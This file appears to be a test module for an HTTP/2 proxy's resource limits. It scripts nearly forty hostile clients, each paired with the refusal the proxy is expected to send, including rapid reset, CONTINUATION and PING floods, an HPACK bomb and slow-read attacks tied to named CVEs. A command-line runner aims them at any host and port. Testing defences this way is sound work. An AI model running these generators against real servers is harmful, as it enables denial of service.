"""What hostile clients do, each as a generator of octets, and the answer that `proxy.http2.limits` promises them.

``python -m tests.hostile.attacks --target 127.0.0.1:50051 --only "PING flood"`` carries one out, bounded in octets and
connections a second, and prints as JSON how its connections ended.
"""

import argparse
import itertools
import json
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from proxy.http2 import constants as c
from proxy.http2 import limits
from proxy.http2.fields import literal
from tests.hostile.line import CUT, KEPT, LEFT, Line, Pace, dialled
from tests.wire import END, continuation, data, frame, headers, ping, priority, request_fields, reset, settings
from tests.wire import block as literals
from tests.wire import settings_ack as ack
from tests.wire import window_update as credit

Octets = Iterator[bytes | None]
"""What is sent, piece by piece; nothing where there is a pause, None to hang up."""

CALM = "GOAWAY ENHANCE_YOUR_CALM"
PROTOCOL = "GOAWAY PROTOCOL_ERROR"
FLOW = "GOAWAY FLOW_CONTROL_ERROR"
SIZE = "GOAWAY FRAME_SIZE_ERROR"
CLOSED = "GOAWAY STREAM_CLOSED"
COMPRESSION = "GOAWAY COMPRESSION_ERROR"
TIMEOUT = "GOAWAY SETTINGS_TIMEOUT"
EXPAND = "/test.Echo/Expand"
CHAT = "/test.Echo/Chat"
COLLECT = "/test.Echo/Collect"
_TICKS = 2.0  # seconds: what a clock has to say is said once a second
_BATCH = 50
_STREAMS = 100
_SLOW_LINES = 50


@dataclass(frozen=True)
class Attack:
    """One way to do harm.

    `answers` are those a connection may end with, `patience` the seconds after which the first of them is due;
    `lines` connections are open at once, `deaf` ones never read.
    """

    name: str
    follows: str
    answers: tuple[str, ...]
    octets: Callable[[], Octets]
    patience: float = 0.0
    lines: int = 1
    deaf: bool = False
    stubborn: bool = False
    """Goes on when told to go away."""
    connections: float = 200.0
    """New ones a second; few where each makes a thousand honest calls, which would be the instances' attack."""

    def allowed(self, seconds: float) -> set[str]:
        """What connections may have come to after `seconds`: also nothing yet, before their time."""
        return {*self.answers, KEPT} if seconds < self.patience + _TICKS else set(self.answers)


def run(attack: Attack, target: str, seconds: float) -> Counter[str]:
    """Carry an attack out; how its connections ended."""
    end = time.monotonic() + seconds
    pace = Pace()
    answers: Counter[str] = Counter()
    lines: list[Line] = []
    while time.monotonic() < end:
        while len(lines) < attack.lines and pace.may_connect(attack.connections):
            connected = dialled(target, deaf=attack.deaf)
            lines.append(Line(connected, attack.octets(), deaf=attack.deaf, stubborn=attack.stubborn))
        moved = 0
        for line in list(lines):
            moved += line.turn(pace)
            if line.over:
                lines.remove(line)
                answers[line.answer()] += 1
        time.sleep(0 if moved else 0.002)
    none_yet = not answers
    for line in lines:
        line.last_look()
        # Those just begun cannot have an answer yet.
        if line.answer() != KEPT or line.age() > attack.patience + _TICKS or none_yet:
            answers[line.answer()] += 1
    return answers


# What they say.


def hello(*entries: tuple[int, int]) -> bytes:
    """A client's first words."""
    return bytes(c.PREFACE) + settings(*entries) + ack()


def ids() -> Iterator[int]:
    """A client's stream ids."""
    return itertools.count(1, 2)


def request(stream_id: int, path: str = "/helloworld.Greeter/SayHello", flags: int = 0) -> bytes:
    return headers(stream_id, request_fields(path), flags)


def message(text: bytes) -> bytes:
    """A gRPC message with its prefix."""
    return b"\0" + len(text).to_bytes(4, "big") + text


def repeated(first: bytes, unit: bytes, times: int = 500) -> Octets:
    """The same over and over."""
    yield first
    while True:
        yield unit * times


def rapid_reset() -> Octets:
    yield hello()
    numbers = ids()
    while True:
        yield b"".join(request(at, CHAT) + reset(at) for at in itertools.islice(numbers, _BATCH))


def refused_reset() -> Octets:
    """The same past the stream limit."""
    yield hello()
    numbers = ids()
    yield b"".join(request(at, CHAT) for at in itertools.islice(numbers, int(limits.OFFERED_STREAMS)))
    while True:
        yield b"".join(request(at, CHAT) + reset(at) for at in itertools.islice(numbers, _BATCH))


def made_you_reset(spoil: Callable[[int], bytes], *, ended: bool = False) -> Callable[[], Octets]:
    """A request, and a frame that would have the relay reset it."""

    def octets() -> Octets:
        yield hello()
        numbers = ids()
        while True:
            batch = itertools.islice(numbers, _BATCH)
            yield b"".join(request(at, CHAT, END if ended else 0) + spoil(at) for at in batch)

    return octets


def malformed() -> Octets:
    """Field names in upper case."""
    yield hello()
    numbers = ids()
    spoilt = (*request_fields(), ("Upper", "case"))
    while True:
        yield b"".join(headers(at, spoilt) for at in itertools.islice(numbers, _BATCH))


def zero_length_headers() -> Octets:
    yield hello()
    for at in ids():
        yield headers(at, literals(request_fields()) + bytes(3) * 4000)


def header_bomb() -> Octets:
    """A list above the limit, in a block below it."""
    yield hello()
    for at in ids():
        octets = literals(request_fields()) + literal(b"x", b"y") * 3000
        yield headers(at, octets)


def long_paths() -> Octets:
    """Names that a table of methods might keep."""
    yield hello()
    for at in ids():
        yield headers(at, literals(request_fields(f"/{at}." + "x" * 15_000 + "/y")), END)


def hpack_bomb() -> Octets:
    """An entry of 4,000 octets, and then 15,000 references to it in each block."""
    entry = b"\x40" + literal(b"bomb", b"x" * 4000)[1:]
    yield hello() + headers(1, literals(request_fields()) + entry)
    for at in itertools.count(3, 2):
        yield headers(at, literals(request_fields()) + b"\xbe" * 15_000)


def continuation_flood(octets: bytes) -> Callable[[], Octets]:
    first = frame(int(c.HEADERS), 0, 1, literals(request_fields()))
    return lambda: repeated(hello() + first, continuation(1, octets), 20)


def empty_data() -> Octets:
    return repeated(hello() + request(1, CHAT), data(1, b""))


def window_churn() -> Octets:
    """Many streams, all of whose windows move with each of many entries of SETTINGS."""
    yield hello()
    yield b"".join(request(at, CHAT) for at in itertools.islice(ids(), 1000))
    key = int(c.INITIAL_WINDOW_SIZE)
    unit = settings(*[(key, 65_535 + number % 2) for number in range(32)])
    while True:
        yield unit * 50


def dribbled_request() -> Octets:
    """A message octet by octet."""
    yield hello() + request(1, COLLECT) + data(1, b"\0\x7f\xff\xff\xff")
    unit = b"".join(data(1, b"x") for _ in range(200))
    while True:
        yield unit
        yield b""


def dribbled_response() -> Octets:
    """A response for which there is room for one octet at a time."""
    yield hello((int(c.INITIAL_WINDOW_SIZE), 0))
    asked = message(b"1000 65536")
    numbers = list(itertools.islice(ids(), _STREAMS))
    yield b"".join(request(at, EXPAND) + data(at, asked, END) for at in numbers)
    while True:
        yield from pause(0.02)  # or it would be a WINDOW_UPDATE flood
        yield b"".join(credit(at, 1) for at in numbers)


def large_responses(*entries: tuple[int, int], room: int = 0) -> Callable[[], Octets]:
    def octets() -> Octets:
        yield hello(*entries) + (credit(0, room) if room else b"")
        asked = message(b"1000 65536")
        for at in itertools.islice(ids(), _STREAMS):
            yield request(at, EXPAND) + data(at, asked, END)

    return octets


def unread_answers() -> Octets:
    """Many small calls whose answers nobody reads."""
    yield hello()
    numbers = ids()
    while True:
        yield b"".join(request(at, "/no/method", END) for at in itertools.islice(numbers, _BATCH))
        yield b""


def slow_preface() -> Octets:
    for octet in bytes(c.PREFACE):
        yield bytes([octet])
        yield from pause(1.0)


def mute() -> Octets:
    yield b""


def slow_headers() -> Octets:
    octets = literals(request_fields())
    yield hello() + frame(int(c.HEADERS), 0, 1, octets[:1]) + (len(octets) - 1).to_bytes(3, "big")
    yield bytes([int(c.CONTINUATION), 0, 0, 0, 0, 1])
    for octet in octets[1:]:
        yield bytes([octet])
        yield from pause(0.2)


def no_acknowledgement() -> Octets:
    yield bytes(c.PREFACE) + settings()


def pause(seconds: float) -> Octets:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield b""


def once(*octets: bytes | None) -> Callable[[], Octets]:
    return lambda: iter(octets)


def flood(*units: bytes, first: bytes = b"", times: int = 500) -> Callable[[], Octets]:
    return lambda: repeated(hello() + first, b"".join(units), times)


MAX = int(c.MAX_WINDOW)
RESET = "CVE-2023-44487"
MADE = "CVE-2025-8671"
ATTACKS = (
    Attack("rapid reset", RESET, (CALM,), rapid_reset),
    Attack("rapid reset past the limit", RESET, (CALM,), refused_reset, connections=1),
    Attack("WINDOW_UPDATE of 0", MADE, (PROTOCOL,), made_you_reset(lambda at: credit(at, 0))),
    Attack("window overflow", MADE, (FLOW,), made_you_reset(lambda at: credit(at, MAX))),
    Attack("PRIORITY of 4 octets", MADE, (SIZE,), made_you_reset(lambda at: frame(2, 0, at, bytes(4)))),
    Attack("PRIORITY on itself", MADE, (PROTOCOL,), made_you_reset(lambda at: priority(at, at))),
    Attack("HEADERS behind the end", MADE, (CLOSED,), made_you_reset(lambda at: request(at, CHAT), ended=True)),
    Attack("DATA behind the end", MADE, (CLOSED,), made_you_reset(lambda at: data(at, b"x"), ended=True)),
    Attack("malformed requests", "CVE-2019-9514", (CALM,), malformed),
    Attack("CONTINUATION flood", "CVE-2024-27316", (CALM,), continuation_flood(b"\0\1x\1y" * 200)),
    Attack("empty CONTINUATION flood", "CVE-2024-27316", (CALM,), continuation_flood(b"")),
    Attack("empty DATA", "CVE-2019-9518", (CALM,), empty_data),
    Attack("PING flood", "CVE-2019-9512", (CALM,), flood(ping(), times=5000), stubborn=True),
    Attack("PING flood, unread", "CVE-2019-9512", (CALM, CUT), flood(ping(), times=5000), deaf=True),
    Attack("PING answers nobody asked for", "CVE-2019-9512", (CALM,), flood(ping(flags=1))),
    Attack("SETTINGS flood", "CVE-2019-9515", (CALM,), flood(settings())),
    Attack("SETTINGS answers nobody asked for", "CVE-2019-9515", (CALM,), flood(ack())),
    Attack("SETTINGS with 33 entries", "limits", (CALM,), flood(settings(*[(0x99, 1)] * 33), times=1)),
    Attack("window churn", "limits", (CALM,), window_churn, connections=1),
    Attack("PRIORITY loop", "CVE-2019-9513", (CALM,), flood(priority(1, 3), priority(3, 1))),
    Attack("WINDOW_UPDATE flood", "limits", (CALM,), flood(credit(0, 1))),
    Attack("unknown frames", "limits", (CALM,), flood(frame(0xAB, 0, 0, b"x"))),
    Attack("zero-length headers", "CVE-2019-9516", (CALM,), zero_length_headers),
    Attack("header bomb", "section 10.5.1", (CALM,), header_bomb),
    Attack("long paths", "limits", (KEPT,), long_paths),
    Attack("HPACK bomb", "RFC 7541 section 7.3", (COMPRESSION,), hpack_bomb),
    Attack("frame too long", "section 4.2", (SIZE,), once(hello(), frame(0, 0, 1, bytes(16_385)))),
    Attack("garbage", "section 3.4", (PROTOCOL,), once(bytes(range(1, 256)) * 100)),
    Attack("HTTP/1", "section 3.4", ("HTTP/1.1 505",), once(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
    Attack("connect and close", "limits", (LEFT,), once(hello(), None)),
    Attack("dribbled request", "CVE-2019-9511", (KEPT,), dribbled_request),
    Attack("dribbled response", "CVE-2019-9511", (KEPT,), dribbled_response),
    Attack("window exhaustion", "CVE-2019-9517", (KEPT,), large_responses((int(c.INITIAL_WINDOW_SIZE), 0))),
    Attack(
        "never reading", "CVE-2019-9517", (CUT,),
        large_responses((int(c.INITIAL_WINDOW_SIZE), MAX), room=MAX - 65_535), deaf=True, patience=21,
    ),
    Attack("answers unread", "CVE-2019-9517", (CUT, CALM), unread_answers, deaf=True, patience=21),
    Attack("slow preface", "limits", (PROTOCOL,), slow_preface, patience=10, lines=_SLOW_LINES),
    Attack("mute", "limits", (PROTOCOL,), mute, patience=10, lines=_SLOW_LINES),
    Attack("slow headers", "limits", (CALM,), slow_headers, patience=10, lines=_SLOW_LINES),
    Attack("no acknowledgement", "limits", (TIMEOUT,), no_acknowledgement, patience=40, lines=_SLOW_LINES),
)  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", required=True, help="where to dial")
    parser.add_argument("--only", required=True, help="the attack's name")
    parser.add_argument("--seconds", type=float, default=20, help="how long")
    options = parser.parse_args()
    print(json.dumps(run(named(options.only), options.target, options.seconds)), flush=True)


def named(name: str) -> Attack:
    """The attack of that name."""
    return next(attack for attack in ATTACKS if attack.name == name)


if __name__ == "__main__":
    main()
